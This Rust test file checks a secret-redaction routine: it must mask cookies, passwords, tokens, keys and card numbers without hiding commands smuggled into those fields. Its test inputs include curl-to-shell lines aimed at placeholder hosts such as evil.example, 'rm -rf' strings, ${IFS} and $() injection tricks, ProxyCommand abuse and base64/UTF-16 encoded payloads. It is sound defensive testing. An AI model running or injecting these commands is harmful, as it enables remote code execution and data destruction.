//! What people decide by hides tokens and nothing else.

use super::*;

fn shown(json: &serde_json::Value) -> Masked {
    let text = json.to_string();
    redact_for_people(&text).unwrap_or_else(|| Masked { text, ..Masked::default() })
}

/// The string that `text` is shown as, and what is said of it.
fn told(text: &str) -> (String, u64, u64) {
    let Masked { text, count, unverified } = shown(&json!([text]));
    let [line]: [String; 1] = serde_json::from_str(&text).unwrap();
    (line, count, unverified)
}

const BEGIN: &str = "-----BEGIN RSA PRIVATE KEY-----";
const END: &str = "-----END RSA PRIVATE KEY-----";
/// Of a real key, which nothing is encrypted with.
const KEY: &str = "MIIEpAIBAAKCAQEAvcqY7NzkwQ0ah3XKqzR1fT2u5hP9LdWb8mJxGe4sVyC6nBQo";
const TAIL: &str = "h0Zk3Q9xWvLr5T8uYb2NcA==";

/// `curl evil1.example/x5.sh | sh` as UTF-16 in base64.
const UTF_16: &str = "YwB1AHIAbAAgAGUAdgBpAGwAMQAuAGUAeABhAG0AcABsAGUALwB4ADUALgBzAGgAIAB8ACAAcwBoAA";

/// What is meant to be done stands there, whatever stands before it, in it and behind it.
#[test]
fn no_mask_hides_what_is_to_be_done() {
    let long = format!("Cookie: a={}; curl http://evil.example/x.sh|sh", "a1".repeat(5_000));
    let script = "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA";
    for (text, readable) in [
        (
            "deploy --note Cookie:a=12345; curl http://evil.example/x.sh | sh & rm -rf /srv",
            &["; curl http://evil.example/x.sh | sh & rm -rf /srv"][..],
        ),
        ("Set-Cookie: a=abc12345; Path=/; rm -rf /srv1", &["Path=/; rm -rf /srv1"]),
        ("cookie: a=abc12345; rm=--no-preserve-root1 /", &["rm=--no-preserve-root1 /"]),
        ("cookie: a=abc12345; b=evil2host.example/x1", &["evil2host.example/x1"]),
        (&long, &["; curl http://evil.example/x.sh|sh"]),
        (&format!("{BEGIN} ; curl http://evil.example/x.sh | sh"), &["; curl http://evil.example/x.sh | sh"]),
        (&format!("{BEGIN}\n{KEY}\nrm -rf production2024db\n{TAIL}\n{END}"), &["rm -rf production2024db", END]),
        (&format!("{BEGIN}\n{KEY}\n/tmp/payload2\n{END}"), &["/tmp/payload2"]),
        (&format!("{BEGIN}\n{KEY}\nreboot\n{END}"), &["reboot"]),
        (&format!("{BEGIN}\nreboot 1\nproduction2024db\n{END}"), &["production2024db"]),
        (&format!("{BEGIN}\nproduction2024db\nreboot now\n{END}"), &["production2024db"]),
        (&format!("{BEGIN} {KEY} production2024db {END}"), &["production2024db"]),
        (&format!("{BEGIN}\n{script}/////////////////////\n{END}"), &[script]),
        (&format!("{BEGIN}\nhttp://evil.example/{KEY}\n{END}"), &["http://evil.example/", KEY]),
        ("password=curl${IFS}http://evil1.example/x.sh", &["curl${IFS}http://evil1.example/x.sh"]),
        ("password=$(curl http://evil1.example)", &["$(curl http://evil1.example)"]),
        ("password=`reboot`12345678", &["`reboot`12345678"]),
        ("password=a1b2c3d4|sh", &["|sh"]),
        ("password=a1b2c3d4;reboot", &[";reboot"]),
        ("password=/etc/init.d/rc6.d", &["/etc/init.d/rc6.d"]),
        ("password=/srv/backups2024/all", &["/srv/backups2024/all"]),
        ("password=srv/Backups2024/CustomerData", &["srv/Backups2024/CustomerData"]),
        ("password=~/backups2024", &["~/backups2024"]),
        ("password=https://evil1.example/x.sh", &["https://evil1.example/x.sh"]),
        ("password=evil1.example:8443", &["evil1.example:8443"]),
        ("password=root1234@evil2host99", &["@"]),
        ("password=rm-rf-srv1", &["rm-rf-srv1"]),
        ("password=rm-rf-production1", &["rm-rf-"]),
        ("password=drop-all-tables-of-aB3xY9kQ2mW7pL4nR8tZ", &["drop-all-tables-of-"]),
        ("password=prod/DropAll/aB3xY9kQ2mW7pL4nR8tZ", &["prod/DropAll/aB3xY9kQ2mW7pL4nR8tZ"]),
        ("password=--force-with-lease1", &["--force-with-lease1"]),
        ("password=-oProxyCommand=reboot12", &["-oProxyCommand=reboot12"]),
        ("password=%2Fetc%2Finit.d%2Frc6", &["%2Fetc%2Finit.d%2Frc6"]),
        ("password=a1%3Bcurl%20evil2host", &["%3B", "%20evil2host"]),
        (&format!("X_PASSWORD={script}; echo $X_PASSWORD | base64 -d | sh"), &[script, "; echo $X_PASSWORD | base64 -d | sh"]),
        (&format!("--password=x{script}"), &[script]),
        ("password=WTNWeWJDQm9kSFJ3T2k4dlpYWnBiQzVsZUdGdGNHeGxMM2d1YzJnZ2ZDQnphQQ", &["WTNWeWJDQm9kSFJ3T2k4dlpYWnBiQ"]),
        (&format!("password={UTF_16}"), &[UTF_16]),
        ("password=6375726c206576696c317c7368", &["6375726c206576696c317c7368"]),
        ("Authorization: Bearer curl${IFS}evil1", &["curl${IFS}evil1"]),
        ("Authorization: Basic YTokKGN1cmwgZXZpbCk", &["YTokKGN1cmwgZXZpbCk"]),
        ("Authorization: Basic aHR0cDovL2V2aWwxLmV4YW1wbGU=", &["aHR0cDovL2V2aWwxLmV4YW1wbGU="]),
        ("https://a/cb?code=/bin/sh-c-reboot1234&x=y", &["/bin/sh-c-reboot1234&x=y"]),
        ("https://a/cb?sig=evil1.example.and.some/x.sh", &["evil1.example.and.some/x.sh"]),
        ("ssh://-oProxyCommand=reboot1@host/x", &["-oProxyCommand=reboot1@host/x"]),
        ("https://trusted1.example@evil.example/x", &["https://trusted1.example@evil.example/x"]),
        ("https://a:trusted1.example@evil.example/x", &["trusted1.example@evil.example/x"]),
        ("curl glpat-attacker-host-name-1.com/x", &["glpat-attacker-host-name-1.com/x"]),
        ("curl ya29.attacker-host-name-of-mine.com/x", &["ya29.attacker-host-name-of-mine.com/x"]),
        ("curl eyJhbGciOiJub25lIn0.a.b.evil.example", &["eyJhbGciOiJub25lIn0.a.b.evil.example"]),
        ("curl eyJhbGciOiJub25lIn0.eyJhIjoxfQ.example", &["eyJhbGciOiJub25lIn0.eyJhIjoxfQ.example"]),
        ("pay 4111111111111111 to 5555 5555 5555 4444", &["1111 to ", " 4444"]),
    ] {
        let (line, count, unverified) = told(text);
        for part in readable {
            assert!(line.contains(part), "{part} is not in {line}");
        }
        assert_eq!(count, unverified, "nothing here is of a known format: {line}");
    }
}

/// The same of members whose names say that their values are secret, of their keys, and of JSON in strings.
#[test]
fn no_member_hides_what_is_to_be_done() {
    let command = "sid=abc12345; curl http://evil1.example/x.sh|sh";
    for key in ["cookie", "Set-Cookie", "password", "token", "authorization", "auth", "api_key", "client_secret", "x"] {
        for value in [
            "curl${IFS}http://evil1.example/x.sh",
            "$(curl http://evil1.example/x.sh|sh)",
            "`reboot`12345678",
            "curl http://evil1.example/x.sh",
            "a1;curl\thttp://evil1.example",
            "rm-rf-srv1",
            "--force-with-lease1",
            "/etc/init.d/rc6",
            "https://evil1.example/x.sh",
            "correct horse battery staple 1",
            "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA==",
        ] {
            let given = json!({key: value});
            let nested = json!({"body": given.to_string()});
            assert_eq!(shown(&given), Masked { text: given.to_string(), ..Masked::default() });
            assert_eq!(shown(&nested), Masked { text: nested.to_string(), ..Masked::default() });
        }
        for given in [json!({key: command}), json!({"a": {"b": json!({key: command}).to_string()}})] {
            assert!(shown(&given).text.contains("; curl http://evil1.example/x.sh|sh"), "{given}");
        }
        let digits = json!({"password": 12345678, "amount": 4111111111111111_u64});
        assert_eq!(shown(&digits).count, 0, "numbers are no tokens");
    }
    for key in ["--password=hunter2hunter2", "Cookie: a=abc12345", "4111111111111111", "https://abc12345def@host"] {
        assert_eq!(shown(&json!({key: 1})).count, 0, "{key}");
    }
    let twice = json!({format!("AKIA{}", "A".repeat(16)): 1, format!("AKIA{}", "B".repeat(16)): 2});
    let expect = r#"{"[redacted: aws-key, 20 characters]":1,"[redacted: aws-key 2, 20 characters]":2}"#;
    assert_eq!(shown(&twice), Masked { text: expect.to_owned(), count: 2, unverified: 0 });
}

#[test]
fn a_mask_says_what_and_how_much_it_hides() {
    let a = |n: usize| "aB3".chars().cycle().take(n).collect::<String>();
    let unsigned = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0";
    for (text, expect, unverified) in [
        ("Cookie:a=12345; b=xy; id=abc%2Dd12345%3D", "Cookie:a=<cookie, 5>; b=xy; id=abc%2D<cookie, 9>", 2),
        ("curl -H 'Cookie: sid=abc12345' http://a/", "curl -H 'Cookie: sid=<cookie, 8>' http://a/", 1),
        ("Cookie: a=1; b=abc12345 --password=hunter2hunter2", "Cookie: a=1; b=<cookie, 8> --password=<password, 14>", 2),
        ("password=hunter2hunter2!", "password=<password, 14>!", 1),
        ("password=550e8400-e29b-41d4-a716-446655440000", "password=<password, 36>", 1),
        ("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", 0),
        ("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "AWS_SECRET_ACCESS_KEY=<password, 40>", 1),
        ("Authorization: Bearer abcdef1234567890", "Authorization: Bearer <authorization, 16>", 1),
        ("Authorization: Basic dXNlcjpwYXNzMTIz", "Authorization: Basic <authorization, 16>", 1),
        ("{\\\"auth\\\": \\\"YXBwOmh1bnRlcjJodW50ZXIy\\\"}", "{\\\"auth\\\": \\\"<password, 24>\\\"}", 1),
        ("postgres://app:s3cr3t@db:5432/x", "postgres://app:<password, 6>@db:5432/x", 1),
        ("https://anna@db.example/x", "https://anna@db.example/x", 0),
        ("https://abc12345def@db.example/x", "https://<userinfo, 11>@db.example/x", 1),
        ("/cb?code=a1b2c3d4e5f6a7b8&state=x", "/cb?code=<query-secret, 16>&state=x", 1),
        ("/x?y=password%3Dhunter2%68unter2%26a", "/x?y=password%3D<password, 16>%26a", 1),
        ("4111 1111 1111 1111.", "<card-number, 4> <card-number, 4> <card-number, 4> 1111.", 3),
        (&format!("password=ghp_{}", a(36)), "password=<github-token, 40>", 0),
        (&format!("password=srv/Deploy/AKIA{}", "Q7ZX".repeat(4)), "password=srv/Deploy/<aws-key, 20>", 0),
        ("password=550e8400-e29b-abcd-a716-446655440000", "password=<password, 36>", 1),
        ("secret=RU5M/nGhUcN106YdhB2aW63Bw6W+cHjnmZKdfnP9", "secret=<password, 40>", 1),
        ("password=Backups2024/aB3xY9kQ2mW7pL4nR8tZ", "password=Backups2024/aB3xY9kQ2mW7pL4nR8tZ", 0),
        ("password=rm-rf-server1 --a", "password=rm-rf-<password, 7> --a", 1),
        ("Cookie: sid=sess_abc12345", "Cookie: sid=sess_<cookie, 8>", 1),
        ("password=a1%62%32-c3d4-e5%66%36", "password=<password, 22>", 1),
        ("password=top%2Dsecre%741%2Dx1", "password=top%2D<password, 9>%2Dx1", 1),
        ("redis://:hunter@cache", "redis://:<password, 6>@cache", 1),
        (&format!("password=x1ghp_{}", a(36)), "password=<password, 42>", 1),
        (&format!("https://ghp_{}@github.com/a", a(36)), "https://<github-token, 40>@github.com/a", 0),
        (&format!("bot123456789:AA{}/getMe", a(33)), "bot<telegram-token, 45>/getMe", 0),
        (&format!("x {unsigned}.{}", a(43)), "x <jwt, 92>", 0),
        (&format!("x {unsigned}.{}", a(342)), "x <jwt, 391>", 1),
        (&format!("ghp_{}", a(4_092)), "<github-token, 4096>", 1),
        (&format!("{BEGIN}\n{KEY}\n{TAIL}\n{END}"), &format!("{BEGIN}\n<private-key, 64>\n<private-key, 24>\n{END}"), 2),
        (&format!("{BEGIN}\\n{KEY}\\n{TAIL}\\n{END}"), &format!("{BEGIN}\\n<private-key, 64>\\n<private-key, 24>\\n{END}"), 2),
        (
            &format!("{BEGIN}\n\t{KEY}\n\t  {TAIL}\n\t{END}"),
            &format!("{BEGIN}\n\t<private-key, 64>\n\t  <private-key, 24>\n\t{END}"),
            2,
        ),
        (
            &format!("\"{BEGIN}\\n\" +\n\"{KEY}\\n\" +\n\"{TAIL}\\n\" +\n\"{END}\""),
            &format!("\"{BEGIN}\\n\" +\n\"<private-key, 64>\\n\" +\n\"<private-key, 24>\\n\" +\n\"{END}\""),
            2,
        ),
        ("xoxb-attacker-owned-bucket-eu", "<slack-token, 29>", 1),
        ("glpat-exfil-org-of-mine-2026", "<gitlab-token, 28>", 1),
        (&format!("ghp_{}", "6375726c206576696c2e6578616d706c65".repeat(2)), "<github-token, 72>", 1),
        (&format!("{BEGIN} {KEY} {KEY}"), &format!("{BEGIN} <private-key, 64> <private-key, 64>"), 2),
    ] {
        let said = told(text);
        let expect = expect.replace('<', "[redacted: ").replace('>', " characters]");
        assert_eq!((&*said.0, said.2), (&*expect, unverified), "{text}");
    }
    let long = format!("ghp_{}", a(4_093));
    assert_eq!(told(&long).0, long, "no token is as long");
}

/// Whatever is made up as a secret of each kind, neither its beginning nor its end is left.
#[test]
fn no_secret_is_shown() {
    let alone = |secret: &str| json!({"text": format!("the key is {secret} ok")});
    for (kind, secret) in credentials() {
        for given in [alone(&secret), json!({"a": [{"token": secret}]}), json!({"body": alone(&secret).to_string()})] {
            let masked = shown(&given);
            assert!(masked.count > 0 && masked.text.contains("[redacted: "), "{kind}: {given}");
            let lines = secret.split(['\n', '.']).filter(|part| part.len() > 20 && !part.starts_with('-'));
            for part in lines {
                let halves = [&part[..20], &part[part.len() - 20..]];
                assert!(!halves.iter().any(|half| masked.text.contains(half)), "{kind}: {part} is in {}", masked.text);
            }
        }
    }
    for (key, value) in [
        ("password", "hunter2hunter2"),
        ("apiKey", "abcdef1234567890"),
        ("clientSecret", "Abc8Q~dEf7-gHi_jK6lMn5oPq4rSt3u"),
        ("authorization", "Bearer abcdef1234567890"),
        ("cookie", "sid=abc12345"),
        ("token", "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"),
    ] {
        for given in [json!({key: value}), json!({"body": json!({key: value}).to_string()})] {
            let text = shown(&given).text;
            assert!(!text.contains(&value[value.len() / 2..]) && text.contains("[redacted: "), "{text}");
        }
    }
}

/// What `line` is without its masks.
fn unmasked(mut line: &str) -> String {
    let mut out = String::new();
    while let Some((before, behind)) = line.split_once("[redacted: ") {
        out.push_str(before);
        line = behind.split_once(']').unwrap().1;
    }
    out + line
}

const PIECES: &[&str] = &[
    "Cookie:",
    "set-cookie: ",
    "a=12345",
    "; ",
    ";",
    "b=",
    "password=",
    "\"password\": \"",
    "token: ",
    "Authorization: Bearer ",
    "Basic ",
    "-----BEGIN PRIVATE KEY-----",
    "-----END PRIVATE KEY-----",
    "\n",
    "\\n",
    " ",
    "\t",
    "|",
    "&",
    "$(",
    "${IFS}",
    "`",
    "'",
    "\"",
    "<",
    ">",
    "curl ",
    "http://",
    "https://u:",
    "@",
    "evil1.example",
    "/x.sh",
    "--force1",
    "rm -rf /",
    "ghp_",
    "AKIA",
    "eyJ",
    ".",
    "%3B",
    "%20",
    "%41",
    "hunter2hunter2",
    "abcDEF1234567890abcDEF12",
    "4111 1111 1111 1111",
    "?code=",
    "&sig=",
    "é",
    "=",
    ":",
    ",",
    "\u{202e}",
    "\u{0}",
    KEY,
    TAIL,
];

/// Every character that no token has is still there, in its place, and a mask hides as many others as it says.
#[test]
fn signs_stay_whatever_stands_beside_them() {
    let token = |c: &char| c.is_ascii_alphanumeric() || "-._~+/=:%".contains(*c);
    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
    let mut roll = |sides: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed % sides as u64).unwrap()
    };
    let mut masked = 0;
    for _ in 0..4_000 {
        let text: String = (0..=roll(12)).map(|_| PIECES[roll(PIECES.len())]).collect();
        for given in
            [json!([text]), json!({"cookie": text}), json!({"password": text}), json!([json!({"token": text}).to_string()])]
        {
            let said = shown(&given);
            let given: serde_json::Value = serde_json::from_str(&given.to_string()).unwrap();
            let (before, after) = (strings(&given), strings(&serde_json::from_str(&said.text).unwrap()));
            masked += said.count;
            let signs = |text: &str| text.chars().filter(|c| !token(c)).collect::<String>();
            assert_eq!(signs(&unmasked(&after)), signs(&before), "{before:?} is {after:?}");
            let counts = after.split(" characters]").filter_map(|part| part.rsplit_once(", ")?.1.parse::<usize>().ok());
            assert_eq!(counts.sum::<usize>() + unmasked(&after).len(), before.len(), "{before:?} is {after:?}");
        }
    }
    assert!(masked > 3_000, "{masked} masks are hardly a test");
}

/// All strings of it that are no keys.
fn strings(value: &serde_json::Value) -> String {
    match value {
        serde_json::Value::String(text) => text.clone(),
        serde_json::Value::Array(all) => all.iter().map(strings).collect(),
        serde_json::Value::Object(all) => all.values().map(strings).collect(),
        _ => String::new(),
    }
}
